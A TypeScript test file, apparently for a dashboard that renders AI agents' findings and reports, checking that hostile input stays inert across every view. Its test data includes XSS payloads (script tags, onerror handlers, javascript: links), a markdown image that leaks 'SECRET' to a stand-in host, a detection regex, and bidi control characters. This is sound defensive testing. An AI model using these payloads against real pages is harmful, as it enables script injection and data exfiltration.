/** What agents, tickets and branches say, through every view: it is shown, and does nothing. */
import { expect, it } from 'vitest';

import { html } from '../../../src/page/html.ts';
import { markdown } from '../../../src/page/parts/markdown.ts';
import { writeText } from '../../../src/platform/files.ts';
import { runPaths } from '../../../src/store/run-folder/run-paths.ts';
import { isRoutineId } from '../../../src/words/ids.ts';
import { escapeHtml } from '../../../src/words/text.ts';
import { HOSTILE_TEXTS } from '../../kit/hostile-texts.ts';
import { overwriteFindings } from '../../kit/overwrite.ts';
import { openTestPage } from '../../kit/page.ts';
import { storeEndedRun } from '../../kit/stored-run.ts';

const MARKUP: readonly string[] = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "' onmouseover='alert(1)",
  '<svg/onload=alert(1)>',
  '[a](javascript:alert(1))',
  '[a](data:text/html,<script>alert(1)</script>)',
  '![x](https://evil.example/?d=SECRET)',
  '![x][1]\n\n[1]: https://evil.example/pixel',
  '<https://evil.example/a>',
  '[a](//evil.example)',
  '[a](&#106;avascript:alert(1))',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<style>*{background:url(https://evil.example)}</style>',
  '<form action="https://evil.example"><input name=a></form>',
  '</pre></details></main><base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '```html\n<script>alert(1)</script>\n```',
  '| a |\n|---|\n| <b onclick=alert(1)>x</b> |',
  ...HOSTILE_TEXTS,
];
/** Nothing of the page has any of these, whatever was put in. */
const HARM =
  /<script(?! src="\/assets\/)|<img|<iframe|<style|<base|<object|<embed|<link(?! rel="(?:icon|stylesheet)")|<meta http-equiv|\son\w+\s*=\s*["']?\w+\(|javascript:|srcdoc=|style="/i;

/** Characters that turn words around, or talk to terminals. */
const STRANGE = [
  '\u0000',
  '\u001b',
  '\u202a',
  '\u202b',
  '\u202c',
  '\u202d',
  '\u202e',
  '\u2066',
  '\u2067',
  '\u2068',
  '\u2069',
];

function strangeIn(text: string): readonly string[] {
  return STRANGE.filter((one) => text.includes(one));
}

/** Without text, where anything may stand. */
function tagsOf(page: string): string {
  return (page.match(/<[a-z!/][^>]*>/gi) ?? []).join('\n');
}

it('shows Markdown of agents without markup of theirs, pictures, or ways out but http', () => {
  for (const text of MARKUP) {
    const made = markdown(text).toString();
    expect(tagsOf(made)).not.toMatch(HARM);
    expect(strangeIn(tagsOf(made))).toEqual([]);
    for (const [, href = ''] of made.matchAll(/href="([^"]*)"/g))
      expect(href).toMatch(/^https?:\/\//);
  }
  expect(markdown('see ![x](https://evil.example/?d=1)').toString()).toContain(
    '[image: x https://evil.example/?d=1]',
  );
  expect(markdown('[a](https://example.com/)').toString()).toContain(
    '<a href="https://example.com/" rel="noopener noreferrer nofollow" target="_blank">a</a>',
  );
});

it('escapes whatever stands in a template, and takes nothing but its own for markup', () => {
  for (const text of MARKUP)
    expect(tagsOf(html`<p title="${text}">${text}</p>`.toString())).toMatch(
      /^<p title="[^"<>]*">\n<\/p>$/,
    );
  expect(escapeHtml('\u001b[31m<b>\u202e"\'`')).toBe('&lt;b&gt;&quot;&#39;&#96;');
});

const VIEWS = [
  '/',
  '/home/plots',
  '/inbox',
  '/inbox?aside=1',
  '/inbox/entry?id=finding%3AF-0000000001',
  '/routines',
  '/runs',
  '/findings',
  '/items',
  '/notes',
  '/status',
  '/search',
  '/doctor',
];

it('shows hostile findings, reports, notices and items in every view, inert', async () => {
  const page = await openTestPage();
  const { workspace } = page;
  const routine = 'todo-sweep';
  if (!isRoutineId(routine)) throw new TypeError(routine);
  const { id } = await storeEndedRun(workspace, {
    at: new Date().toISOString(),
    change: { failure: { code: 'x', message: MARKUP.join(' '), hint: MARKUP[0] ?? '' } },
  });
  await writeText(runPaths(workspace.location.stateDir, id).report, MARKUP.join('\n\n'));
  const at = new Date().toISOString();
  await overwriteFindings(workspace, {
    routine,
    lastRun: id,
    findings: MARKUP.map((text, number) => ({
      id: `F-${String(number).padStart(10, '0')}`,
      fingerprint: `fp-${number}`,
      title: text,
      body: text,
      severity: 'high' as const,
      location: { path: text.slice(0, 80), line: 1, symbol: text },
      item: null,
      routine,
      state: 'new' as const,
      firstSeen: at,
      lastSeen: at,
      resolvedAt: null,
      runs: [id],
      verdict: null,
    })),
  });
  for (const text of MARKUP) {
    await workspace.items.make({
      state: 'open',
      title: text.slice(0, 100),
      body: text,
      routine: null,
      run: null,
      findings: [],
      createdAt: at,
    });
  }
  const words = encodeURIComponent('"><script>alert(1)</script>');
  const paths = [
    ...VIEWS,
    `/runs/${id}`,
    `/runs/${id}/log`,
    '/findings/F-0000000001',
    '/items/RM-1',
    `/${words}`,
    `/findings?routine=${words}&show=${words}`,
    `/runs?before=${words}`,
  ];
  for (const path of paths) {
    const { status, body } = await page.get(path);
    expect([path, status]).toEqual([path, path === `/${words}` ? 404 : 200]);
    expect([path, HARM.exec(tagsOf(body))?.[0] ?? null, strangeIn(tagsOf(body))]).toEqual([
      path,
      null,
      [],
    ]);
  }
  expect(page.log).toEqual([]);
});
